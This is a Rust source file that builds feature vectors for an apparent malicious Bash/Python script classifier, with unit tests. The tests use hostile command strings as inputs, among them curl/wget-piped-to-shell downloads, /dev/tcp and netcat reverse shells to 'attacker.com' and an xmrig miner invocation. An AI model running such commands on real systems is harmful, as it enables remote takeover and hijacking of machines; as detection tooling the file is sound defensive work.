//! The feature vector: the one implementation used both to build the training
//! matrix (`cargo xtask featurize`) and to score at run time, so the two cannot drift.
//!
//! Layout, in order:
//! 1. one 0/1 value per named indicator (`indicators::INDICATORS`),
//! 2. a few numeric shape features, each scaled to about [0, 1],
//! 3. `HASH_DIM` buckets of hashed token unigrams and bigrams (log counts,
//!    L2-normalised to `HASH_NORM` over the block), shared by both languages, over the first
//!    `TOKEN_BYTES`.

use std::sync::OnceLock;

use crate::indicators::{Indicators, INDICATORS};
use crate::lang::Lang;
use crate::tokens::{for_each_token, hash_lower, mix, try_for_each_token, Token};

/// Bump when anything changes the vector for the same text; the model records it.
pub const FEATURE_VERSION: u32 = 8;
pub const HASH_BITS: u32 = 12;
pub const HASH_DIM: usize = 1 << HASH_BITS;
/// Only the first 64 KiB of a script are scored.
pub const MAX_BYTES: usize = 64 * 1024;
/// L2 norm of the hashed block. Below 1 so that, under the same regularisation,
/// the model leans on the named indicators, which carry over between sources
/// better than the token style of any one source does (chosen by by-source validation).
pub const HASH_NORM: f32 = 0.5;
/// Token n-grams are counted over the first 16 KiB (indicators see all 64 KiB):
/// style is settled by then, and it keeps a 64 KiB script within the latency budget.
pub const TOKEN_BYTES: usize = 16 * 1024;

/// Token evidence ("contains `x`") is looked up in the first 4 KiB only: a
/// second tokenizer pass over 16 KiB costs as much as featurizing. A hashed
/// feature whose first n-gram lies further in gives no reason (the named
/// indicators always do).
pub const EVIDENCE_BYTES: usize = 4 * 1024;

const BIGRAM_SALT: u64 = 0x9e37_79b9_7f4a_7c15;

/// Numeric features: (name, analyst words when it drives a score).
pub const NUMERIC: &[(&str, &str)] = &[
    // No length, line-length or entropy features: in the corpus those tell
    // sources apart (one-liners vs library files), not intent.
    (
        "punct_ratio",
        "unusually dense punctuation (obfuscated code)",
    ),
    ("longest_b64_run", "contains a long base64-like string"),
    ("hex_escape_density", "many \\x escape sequences"),
    ("non_ascii_ratio", "many non-ASCII characters"),
    ("is_python", "Python code"),
];

pub const fn indicator_offset() -> usize {
    0
}

pub const fn numeric_offset() -> usize {
    INDICATORS.len()
}

pub const fn hash_offset() -> usize {
    INDICATORS.len() + NUMERIC.len()
}

/// Length of the feature vector.
pub const fn dim() -> usize {
    hash_offset() + HASH_DIM
}

/// The name of every feature, in vector order (`ind:…`, `num:…`, `hash:…`).
pub fn feature_names() -> Vec<String> {
    let mut names: Vec<String> = INDICATORS.iter().map(|d| format!("ind:{}", d.id)).collect();
    names.extend(NUMERIC.iter().map(|(n, _)| format!("num:{n}")));
    names.extend((0..HASH_DIM).map(|i| format!("hash:{i}")));
    names
}

/// Identifies the feature layout; a model trained on another layout is refused.
pub fn schema_fingerprint() -> String {
    let names = feature_names().join("\n");
    format!("v{FEATURE_VERSION}-{:016x}", hash_lower(names.as_bytes()))
}

/// The scored prefix of a text: at most `MAX_BYTES`, cut on a character boundary.
pub fn scored_prefix(text: &str) -> &str {
    prefix(text, MAX_BYTES)
}

/// At most `max` bytes of `text`, cut on a character boundary.
fn prefix(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// Both languages share one token space: Python droppers carry shell commands
/// (`os.system("curl ... | sh")`), and what the model learns from malicious
/// Bash then counts for them too (by-source validation preferred this to
/// separate spaces). The language itself is the `is_python` feature.
fn lang_salt(_lang: Lang) -> u64 {
    0
}

fn unigram_bucket(salt: u64, tok: &Token<'_>) -> usize {
    (mix(tok.hash ^ salt) as usize) & (HASH_DIM - 1)
}

fn bigram_bucket(salt: u64, prev: &Token<'_>, tok: &Token<'_>) -> usize {
    (mix(prev.hash.rotate_left(23) ^ tok.hash ^ salt ^ BIGRAM_SALT) as usize) & (HASH_DIM - 1)
}

/// The feature vector of `text` scored as `lang`.
pub fn featurize(text: &str, lang: Lang) -> Vec<f32> {
    let text = scored_prefix(text);
    let mut out = vec![0f32; dim()];

    for (i, on) in Indicators::get().evaluate(text).into_iter().enumerate() {
        if on {
            out[indicator_offset() + i] = 1.0;
        }
    }

    let shape = shape_stats(text);
    let numeric = [
        shape.punct_ratio,
        log_scale(shape.longest_b64_run),
        shape.hex_escape_density,
        shape.non_ascii_ratio,
        if lang == Lang::Python { 1.0 } else { 0.0 },
    ];
    debug_assert_eq!(numeric.len(), NUMERIC.len());
    out[numeric_offset()..hash_offset()].copy_from_slice(&numeric);

    let hashed = &mut out[hash_offset()..];
    let salt = lang_salt(lang);
    // Touched buckets as a bitmap: normalising visits them in ascending order
    // (the same float sum whatever order tokens came in) without a sort.
    let mut touched = [0u64; HASH_DIM / 64];
    let mut bump = |bucket: usize| {
        hashed[bucket] += 1.0;
        touched[bucket / 64] |= 1 << (bucket % 64);
    };
    let mut prev: Option<Token<'_>> = None;
    for_each_token(prefix(text, TOKEN_BYTES), |tok| {
        bump(unigram_bucket(salt, &tok));
        if let Some(p) = &prev {
            bump(bigram_bucket(salt, p, &tok));
        }
        prev = Some(tok);
    });
    let mut norm = 0f32;
    for_each_set_bit(&touched, |b| {
        let v = &mut hashed[b];
        *v = ln_1p_count(*v);
        norm += *v * *v;
    });
    if norm > 0.0 {
        let inv = HASH_NORM / norm.sqrt();
        for_each_set_bit(&touched, |b| hashed[b] *= inv);
    }
    out
}

/// Calls `f` with the index of every set bit of `words`, in ascending order.
fn for_each_set_bit(words: &[u64], mut f: impl FnMut(usize)) {
    for (w, &word) in words.iter().enumerate() {
        let mut bits = word;
        while bits != 0 {
            f(w * 64 + bits.trailing_zeros() as usize);
            bits &= bits - 1;
        }
    }
}

/// `count.ln_1p()` for a token count, from a table for the usual small counts
/// (the same function on the same inputs, so the same values).
fn ln_1p_count(count: f32) -> f32 {
    const TABLED: usize = 1024;
    static TABLE: OnceLock<Vec<f32>> = OnceLock::new();
    let table = TABLE.get_or_init(|| (0..TABLED).map(|k| (k as f32).ln_1p()).collect());
    let k = count as usize;
    if k < TABLED && k as f32 == count {
        table[k]
    } else {
        count.ln_1p()
    }
}

/// ln(1+x) scaled so that 64 KiB maps to 1.
fn log_scale(x: usize) -> f32 {
    ((x as f32).ln_1p() / (65537f32).ln()).min(1.0)
}

struct Shape {
    punct_ratio: f32,
    longest_b64_run: usize,
    hex_escape_density: f32,
    non_ascii_ratio: f32,
}

// Byte classes for `shape_stats`, looked up once per byte.
const PUNCT: u8 = 1;
const NON_ASCII: u8 = 2;
const B64: u8 = 4;
const UPPER: u8 = 8;
const LOWER: u8 = 16;
const DIGIT: u8 = 32;

const fn byte_classes() -> [u8; 256] {
    let mut table = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        let mut c = 0;
        if b >= 0x80 {
            c |= NON_ASCII;
        } else if b.is_ascii_punctuation() {
            c |= PUNCT;
        }
        if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_') {
            c |= B64;
        }
        if b.is_ascii_uppercase() {
            c |= UPPER;
        } else if b.is_ascii_lowercase() {
            c |= LOWER;
        } else if b.is_ascii_digit() {
            c |= DIGIT;
        }
        table[i] = c;
        i += 1;
    }
    table
}

static BYTE_CLASSES: [u8; 256] = byte_classes();

/// One pass over the bytes for the numeric features.
fn shape_stats(text: &str) -> Shape {
    let bytes = text.as_bytes();
    let (mut punct, mut non_ascii) = (0usize, 0usize);
    // A base64 run counts only if it mixes upper case, lower case and digits,
    // which paths and long identifiers rarely do.
    // Branch-free: whether a byte continues a run is unpredictable, and a
    // mispredicted branch per byte would dominate the cost. The run's mix only
    // grows, so the longest run whose mix is complete is the longest prefix of
    // a run with a complete mix.
    let (mut run, mut run_mix, mut longest_b64_run) = (0usize, 0u8, 0usize);
    const FULL: u8 = UPPER | LOWER | DIGIT;
    for &b in bytes {
        let c = BYTE_CLASSES[b as usize];
        punct += usize::from(c & PUNCT != 0);
        non_ascii += usize::from(c & NON_ASCII != 0);
        // All ones inside a run, zero outside (masks, not multiplies: shorter dependency chain).
        let in_run = 0usize.wrapping_sub(usize::from(c & B64 != 0));
        run = (run + 1) & in_run;
        run_mix = (run_mix | c) & in_run as u8;
        let full = 0usize.wrapping_sub(usize::from(run_mix & FULL == FULL));
        longest_b64_run = longest_b64_run.max(run & full);
    }
    let hex_escapes = memchr::memmem::find_iter(bytes, b"\\x").count();
    let n = bytes.len().max(1) as f32;
    Shape {
        punct_ratio: punct as f32 / n,
        longest_b64_run,
        hex_escape_density: (hex_escapes as f32 * 4.0 / n).min(1.0),
        non_ascii_ratio: non_ascii as f32 / n,
    }
}

/// What a feature index means to an analyst, given the text it was computed on.
pub fn describe(index: usize, text: &str, lang: Lang) -> String {
    let bucket = index.saturating_sub(hash_offset());
    describe_all(&[index], text, lang)
        .remove(0)
        .unwrap_or_else(|| format!("token pattern #{bucket}"))
}

/// `describe` for several features, with one pass over the text for all hashed
/// ones. None for a token n-gram that says nothing to a reader (only
/// punctuation, such as `/` or `| (`) or that is not in the text.
pub fn describe_all(indices: &[usize], text: &str, lang: Lang) -> Vec<Option<String>> {
    let buckets: Vec<usize> = indices
        .iter()
        .filter(|&&i| i >= hash_offset())
        .map(|&i| i - hash_offset())
        .collect();
    let tokens = tokens_in_buckets(prefix(text, EVIDENCE_BYTES), lang, &buckets);
    indices
        .iter()
        .map(|&index| {
            if index < numeric_offset() {
                Some(INDICATORS[index - indicator_offset()].evidence.to_owned())
            } else if index < hash_offset() {
                Some(NUMERIC[index - numeric_offset()].1.to_owned())
            } else {
                let bucket = index - hash_offset();
                tokens
                    .iter()
                    .find(|(b, t)| *b == bucket && t.bytes().any(|c| c.is_ascii_alphanumeric()))
                    .map(|(_, t)| format!("contains `{t}`"))
            }
        })
        .collect()
}

/// For each bucket, the first unigram or bigram of `text` landing in it, as the model sees it.
fn tokens_in_buckets(text: &str, lang: Lang, buckets: &[usize]) -> Vec<(usize, String)> {
    let salt = lang_salt(lang);
    let mut found: Vec<(usize, String)> = Vec::new();
    if buckets.is_empty() {
        return found;
    }
    let mut prev: Option<Token<'_>> = None;
    // Stops as soon as every bucket has its n-gram.
    try_for_each_token(text, |tok| {
        let uni = unigram_bucket(salt, &tok);
        if buckets.contains(&uni) && !found.iter().any(|(b, _)| *b == uni) {
            found.push((uni, tok.display()));
        }
        if let Some(p) = &prev {
            let bi = bigram_bucket(salt, p, &tok);
            if buckets.contains(&bi) && !found.iter().any(|(b, _)| *b == bi) {
                found.push((bi, format!("{} {}", p.display(), tok.display())));
            }
        }
        prev = Some(tok);
        found.len() < buckets.len()
    });
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn indicator(v: &[f32], id: &str) -> f32 {
        let i = INDICATORS.iter().position(|d| d.id == id).unwrap();
        v[indicator_offset() + i]
    }

    #[test]
    fn layout_is_consistent() {
        assert_eq!(feature_names().len(), dim());
        let v = featurize("echo hi", Lang::Bash);
        assert_eq!(v.len(), dim());
        assert!(schema_fingerprint().starts_with(&format!("v{FEATURE_VERSION}-")));
    }

    #[test]
    fn deterministic() {
        let s = "curl -s http://203.0.113.9/x.sh | bash";
        assert_eq!(featurize(s, Lang::Bash), featurize(s, Lang::Bash));
    }

    #[test]
    fn hashed_block_is_unit_norm() {
        let v = featurize("import os\nos.system('id')\n", Lang::Python);
        let norm: f32 = v[hash_offset()..].iter().map(|x| x * x).sum();
        assert!((norm - HASH_NORM * HASH_NORM).abs() < 1e-5, "{norm}");
        let empty = featurize("", Lang::Bash);
        assert!(empty.iter().all(|x| *x == 0.0));
    }

    #[test]
    fn languages_share_tokens_and_differ_in_is_python() {
        let a = featurize("exec foo", Lang::Bash);
        let b = featurize("exec foo", Lang::Python);
        assert!(a[hash_offset()..] == b[hash_offset()..]);
        assert_eq!(a[hash_offset() - 1], 0.0);
        assert_eq!(b[hash_offset() - 1], 1.0);
    }

    #[test]
    fn placeholders_do_not_change_the_vector() {
        // Cheat-sheet literals and real values give the same features.
        // (Shape statistics may differ; indicators and tokens may not.)
        let same = |x: &str, y: &str| {
            let (a, b) = (featurize(x, Lang::Bash), featurize(y, Lang::Bash));
            a[..numeric_offset()] == b[..numeric_offset()]
                && a[hash_offset()..] == b[hash_offset()..]
        };
        assert!(same(
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "bash -i >& /dev/tcp/45.77.1.20/8443 0>&1"
        ));
        assert!(same(
            "nc attacker.com 9001 -e /bin/sh",
            "nc lhost 1 -e /bin/sh"
        ));
    }

    #[test]
    fn indicators_land_in_the_vector() {
        let v = featurize("wget -qO- http://h/m | sh", Lang::Bash);
        assert_eq!(indicator(&v, "download_pipe_interpreter"), 1.0);
        assert_eq!(indicator(&v, "dev_tcp"), 0.0);
    }

    #[test]
    fn shape_features() {
        let blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkwYWJjZGVmZ2hpams=".repeat(4);
        let v = featurize(&format!("x = '{blob}'"), Lang::Python);
        assert!(
            v[numeric_offset() + 1] > 0.4,
            "b64 run {}",
            v[numeric_offset() + 1]
        );
        let plain = featurize(
            "/usr/lib/python3/dist-packages/foo/bar/baz/quux/long/path",
            Lang::Bash,
        );
        assert_eq!(plain[numeric_offset() + 1], 0.0, "paths are not base64");
        let punct = v[numeric_offset()];
        assert!(punct > 0.0 && punct < 0.2, "{punct}");
    }

    #[test]
    fn long_scripts_are_cut_on_a_char_boundary() {
        let text = "é".repeat(MAX_BYTES);
        let cut = scored_prefix(&text);
        assert!(cut.len() <= MAX_BYTES && cut.len() > MAX_BYTES - 4);
        let _ = featurize(&text, Lang::Bash);
    }

    #[test]
    fn describe_names_tokens_and_indicators() {
        let text = "xmrig --donate-level 1";
        let v = featurize(text, Lang::Bash);
        let bucket = (hash_offset()..dim()).find(|&i| v[i] > 0.0).unwrap();
        assert!(describe(bucket, text, Lang::Bash).starts_with("contains `"));
        let i = INDICATORS
            .iter()
            .position(|d| d.id == "crypto_miner")
            .unwrap();
        assert!(describe(i, text, Lang::Bash).contains("miner"));
    }

    #[test]
    fn ln_1p_table_equals_ln_1p() {
        for k in 0..3000u32 {
            let x = k as f32;
            assert_eq!(ln_1p_count(x).to_bits(), x.ln_1p().to_bits(), "{k}");
        }
        for x in [0.5f32, 1e6, 1023.5] {
            assert_eq!(ln_1p_count(x).to_bits(), x.ln_1p().to_bits(), "{x}");
        }
    }

    #[test]
    fn set_bits_come_in_ascending_order() {
        let mut words = [0u64; 4];
        let want = [0usize, 5, 63, 64, 130, 255];
        for b in want {
            words[b / 64] |= 1 << (b % 64);
        }
        let mut got = Vec::new();
        for_each_set_bit(&words, |b| got.push(b));
        assert_eq!(got, want);
    }
}
